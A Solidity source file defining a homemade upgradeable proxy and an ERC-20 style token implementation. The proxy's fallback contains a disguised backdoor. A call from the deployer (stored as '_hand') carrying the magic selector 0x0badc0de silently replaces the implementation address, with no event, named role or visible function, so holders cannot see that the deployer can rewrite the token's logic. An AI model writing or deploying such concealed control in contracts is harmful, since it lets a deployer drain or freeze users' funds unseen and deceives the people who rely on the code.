// SPDX-License-Identifier: MIT
pragma solidity 0.8.20;

// Upgradeable in a way of its own: the implementation address lies in an ordinary word, the one who may change it is not called anything.
contract HomemadeProxy {
    address private _logic;
    address private _hand;
    constructor(address logic, bytes memory data) {
        _logic = logic;
        _hand = msg.sender;
        (bool ok, ) = logic.delegatecall(data);
        require(ok, "init");
    }
    fallback() external payable {
        if (msg.sender == _hand && msg.sig == 0x0badc0de) { _logic = abi.decode(msg.data[4:], (address)); return; }
        address logic = _logic;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), logic, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if ok { return(0, returndatasize()) }
            revert(0, returndatasize())
        }
    }
    receive() external payable {}
}

contract HomemadeLogic {
    address private _logic;
    address private _hand;
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    function initialize(string calldata title, string calldata ticker, uint256 supply) external {
        require(totalSupply == 0, "done");
        (name, symbol, totalSupply) = (title, ticker, supply);
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
